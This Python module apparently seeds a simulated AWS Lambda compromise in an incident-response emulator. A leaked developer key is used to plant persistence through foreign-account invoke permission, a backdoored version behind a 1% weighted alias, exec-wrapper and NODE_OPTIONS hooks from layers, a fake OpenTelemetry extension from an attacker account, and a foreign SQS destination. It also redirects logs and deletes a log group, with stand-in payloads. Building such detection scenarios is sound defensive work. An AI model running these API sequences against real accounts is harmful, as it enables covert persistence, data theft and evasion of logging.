"""Scenario `backdoors`: a leaked developer key plants quiet Lambda persistence, a day ago.

The content is ours; each step follows a published technique (the research note's L03, L05,
L06, L07, L19, L20, L21, L24; HackTricks and Stratus describe them). The IAM user `dev-sam`
(created by the administrator six weeks ago) has its key used from 203.0.113.140 with an
old Boto3 user agent to, in us-east-1:
- grant a foreign account invoke on one version only of `orders-api` (qualified statement);
- publish a backdoored `user-notifier`, republish clean code, and route 1% of `live` to it;
- wrap `billing-export`'s runtime (`AWS_LAMBDA_EXEC_WRAPPER` from a new layer);
- preload a hook into `auth-token-refresh` (`NODE_OPTIONS=--require` from a new layer);
- attach an extension layer from the attacker's own account (999988887777) to
  `inventory-sync`, posing as an OpenTelemetry collector;
- send `orders-worker`'s results to a foreign SQS queue and allow recursive loops;
- redirect `report-generator`'s logs to another group and delete its old group.
The payloads are stand-ins that point only at documentation addresses (`standins.py`).
Runs on top of `estate` or standalone (seeds a ten-function estate).
"""

from __future__ import annotations

import random
from collections.abc import Sequence
from datetime import UTC, datetime, timedelta
from typing import Any

from lambda_ir.emulator.scenarios.actors import (
    ActorClients,
    ScenarioClock,
    Target,
    admin,
    create_user_actor,
    lambda_service,
)
from lambda_ir.emulator.scenarios.attacker import Attack
from lambda_ir.emulator.scenarios.catalogue import APPS
from lambda_ir.emulator.scenarios.estate import ground
from lambda_ir.emulator.scenarios.logs import LogTarget, write_invocation_logs
from lambda_ir.emulator.scenarios.result import Actor, ScenarioResult
from lambda_ir.emulator.scenarios.standins import (
    exec_wrapper_layer_zip,
    fake_otel_layer_zip,
    node_exfil_zip,
    node_hook_layer_zip,
)
from lambda_ir.emulator.scenarios.traffic import plan_sandboxes
from lambda_ir.model import FunctionRef

REGION = "us-east-1"
USER = "dev-sam"
ATTACKER_IP = "203.0.113.140"
ATTACKER_AGENT = "Boto3/1.26.90 Python/3.8.10 Linux/5.15.0-1034-aws Botocore/1.29.90"
FOREIGN_ACCOUNT = "999988887777"


def _developer(emulator: Target, now: datetime) -> Actor:
    clock = ScenarioClock(now - timedelta(days=41, hours=5))
    owner = ActorClients(emulator, admin(emulator), clock)
    created = create_user_actor(
        owner.client("iam"),
        USER,
        source_ip=ATTACKER_IP,
        user_agent=ATTACKER_AGENT,
        tags={"team": "commerce", "owner": "sam"},
    )
    return Actor("attacker", created.arn, created.credentials, ATTACKER_IP, ATTACKER_AGENT)


def _layers_of(lam: Any, name: str) -> list[str]:
    config = lam.get_function_configuration(FunctionName=name)
    return [layer["Arn"] for layer in config.get("Layers", [])]


def _environment_of(lam: Any, name: str) -> dict[str, str]:
    config = lam.get_function_configuration(FunctionName=name)
    return dict(config.get("Environment", {}).get("Variables", {}))


def _version_policy(attack: Attack) -> None:
    lam = attack.lam(REGION)
    attack.step(40)
    lam.add_permission(
        FunctionName="orders-api",
        Qualifier="3",
        StatementId="partner-sync",
        Action="lambda:InvokeFunction",
        Principal=FOREIGN_ACCOUNT,
    )
    attack.record(
        "backdoors.version-policy",
        "Foreign account may invoke one version only",
        "AddPermission20150331v2",
        ("T1098",),
        attack.ref(REGION, "orders-api", "3"),
    )


def _weighted_alias(attack: Attack) -> None:
    lam = attack.lam(REGION)
    clean = lam.get_function(FunctionName="user-notifier", Qualifier="live")
    attack.step(60)
    bad = lam.update_function_code(
        FunctionName="user-notifier", ZipFile=node_exfil_zip(), Publish=True
    )
    attack.record(
        "backdoors.weighted-alias-code",
        "Backdoored build published",
        "UpdateFunctionCode20150331v2",
        ("T1648",),
        attack.ref(REGION, "user-notifier", str(bad["Version"])),
    )
    attack.step(30)
    image = attack.download(clean["Code"]["Location"])
    good = lam.update_function_code(FunctionName="user-notifier", ZipFile=image, Publish=True)
    attack.step(20)
    lam.update_alias(
        FunctionName="user-notifier",
        Name="live",
        FunctionVersion=str(good["Version"]),
        RoutingConfig={"AdditionalVersionWeights": {str(bad["Version"]): 0.01}},
    )
    attack.record(
        "backdoors.weighted-alias",
        "1% of live traffic routed to the backdoored version",
        "UpdateAlias20150331",
        ("T1546",),
        attack.ref(REGION, "user-notifier", "live"),
    )


def _runtime_hooks(attack: Attack) -> None:
    lam = attack.lam(REGION)
    for name, layer_name, package, variable, value in (
        (
            "billing-export",
            "billing-runtime-patches",
            exec_wrapper_layer_zip(),
            "AWS_LAMBDA_EXEC_WRAPPER",
            "/opt/bin/bootstrap-wrapper",
        ),
        (
            "auth-token-refresh",
            "node-perf-hooks",
            node_hook_layer_zip(),
            "NODE_OPTIONS",
            "--require /opt/nodejs/hook.js",
        ),
    ):
        attack.step(45)
        layer = lam.publish_layer_version(LayerName=layer_name, Content={"ZipFile": package})
        attack.step(15)
        variables = {**_environment_of(lam, name), variable: value}
        lam.update_function_configuration(
            FunctionName=name,
            Layers=[*_layers_of(lam, name), layer["LayerVersionArn"]],
            Environment={"Variables": variables},
        )
        attack.record(
            f"backdoors.{variable.lower().replace('_', '-')}",
            f"{variable} hook from a new layer",
            "UpdateFunctionConfiguration20150331v2",
            ("T1546",),
            attack.ref(REGION, name),
        )
        # Triggers invoke `live`, so the hook only runs once a version carries it.
        attack.step(20)
        version = str(lam.publish_version(FunctionName=name)["Version"])
        attack.step(8)
        lam.update_alias(
            FunctionName=name,
            Name="live",
            FunctionVersion=version,
            RoutingConfig={"AdditionalVersionWeights": {}},
        )
        attack.record(
            f"backdoors.{variable.lower().replace('_', '-')}-live",
            f"Hooked version {version} put behind the live alias",
            "UpdateAlias20150331",
            ("T1546",),
            attack.ref(REGION, name, version),
        )


def _foreign_extension(emulator: Target, attack: Attack) -> str:
    own = attack.clients.client("sts").assume_role(
        RoleArn=f"arn:aws:iam::{FOREIGN_ACCOUNT}:role/OrganizationAccountAccessRole",
        RoleSessionName="publish",
    )["Credentials"]
    keys = (own["AccessKeyId"], own["SecretAccessKey"], own["SessionToken"])
    foreign = attack.as_keys(emulator, keys).lam(REGION)
    attack.step(90)
    layer = foreign.publish_layer_version(
        LayerName="aws-otel-python-amd64-ver-1-25-0", Content={"ZipFile": fake_otel_layer_zip()}
    )["LayerVersionArn"]
    foreign.add_layer_version_permission(
        LayerName="aws-otel-python-amd64-ver-1-25-0",
        VersionNumber=1,
        StatementId="public",
        Action="lambda:GetLayerVersion",
        Principal="*",
    )
    lam = attack.lam(REGION)
    attack.step(60)
    lam.update_function_configuration(
        FunctionName="inventory-sync", Layers=[*_layers_of(lam, "inventory-sync"), layer]
    )
    attack.record(
        "backdoors.foreign-extension",
        "Extension layer from another account attached",
        "UpdateFunctionConfiguration20150331v2",
        ("T1546",),
        attack.ref(REGION, "inventory-sync"),
    )
    return str(layer)


def _destinations_and_logging(attack: Attack) -> None:
    lam = attack.lam(REGION)
    attack.step(50)
    lam.put_function_event_invoke_config(
        FunctionName="orders-worker",
        DestinationConfig={
            "OnSuccess": {"Destination": f"arn:aws:sqs:{REGION}:{FOREIGN_ACCOUNT}:collector"}
        },
    )
    attack.record(
        "backdoors.async-destination",
        "Results sent to a queue in another account",
        "PutFunctionEventInvokeConfig",
        ("T1537",),
        attack.ref(REGION, "orders-worker"),
    )
    attack.step(10)
    lam.put_function_recursion_config(FunctionName="orders-worker", RecursiveLoop="Allow")
    attack.step(35)
    lam.update_function_configuration(
        FunctionName="report-generator",
        LoggingConfig={"LogFormat": "Text", "LogGroup": "/aws/lambda-insights-archive"},
    )
    attack.step(12)
    attack.clients.client("logs", REGION).delete_log_group(
        logGroupName="/aws/lambda/report-generator"
    )
    attack.record(
        "backdoors.logging-redirect",
        "Logs redirected and the old log group deleted",
        "DeleteLogGroup",
        ("T1562.008",),
        attack.ref(REGION, "report-generator"),
    )


def _after_logs(emulator: Target, start: datetime, now: datetime) -> tuple[tuple[str, str], ...]:
    """The hours after: the foreign extension starts with `inventory-sync`, and 1% of
    `user-notifier`'s traffic lands on the backdoored version 4."""
    rng = random.Random("backdoors")  # noqa: S311 (reproducible content)
    logs = ActorClients(emulator, lambda_service(emulator), ScenarioClock(start))
    client = logs.client("logs", REGION)
    written = []
    for name, version, extensions in (
        ("inventory-sync", "$LATEST", ("otel-collector",)),
        ("user-notifier", "4", ()),
    ):
        app = next(app for app in APPS if app.name == name)
        target = LogTarget(
            name, app.runtime, app.memory_mb, app.timeout_s, REGION, version, None, extensions
        )
        sandboxes = plan_sandboxes(
            rng,
            (start, now - timedelta(minutes=20)),
            app.profile,
            sandboxes=2,
            invocations=3,
            memory_cap=app.memory_mb,
            timeout_s=app.timeout_s,
        )
        written.append((REGION, write_invocation_logs(client, target, sandboxes).log_group))
    return tuple(written)


def backdoors(
    emulator: Target, prior: Sequence[ScenarioResult] = (), *, now: datetime | None = None
) -> ScenarioResult:
    """Seed the leaked-developer-key persistence (content is ours; payloads are stand-ins)."""
    now = now or datetime.now(UTC)
    base = ground(emulator, prior, now)
    attacker = _developer(emulator, now)
    start = (now - timedelta(days=1)).replace(hour=22, minute=41, second=3, microsecond=0)
    attack = Attack(emulator, attacker, ScenarioClock(start))
    attack.lam(REGION).list_functions()
    _version_policy(attack)
    _weighted_alias(attack)
    _runtime_hooks(attack)
    layer = _foreign_extension(emulator, attack)
    _destinations_and_logging(attack)
    groups = _after_logs(emulator, attack.clock.now() + timedelta(minutes=7), now)
    touched = {t.function for t in attack.done if t.function is not None}
    return ScenarioResult(
        name="backdoors",
        account_id=emulator.account_id,
        regions=(REGION,),
        functions=tuple(
            sorted({FunctionRef(f.account, f.region, f.name) for f in touched}, key=str)
        ),
        actors=(attacker,),
        attacker=attacker,
        compromised=tuple(sorted(touched, key=str)),
        techniques=tuple(attack.done),
        layers=(layer,),
        log_groups=groups,
        trail_bucket=base.trail_bucket,
        base=base,
        window=(start, attack.clock.now()),
    )
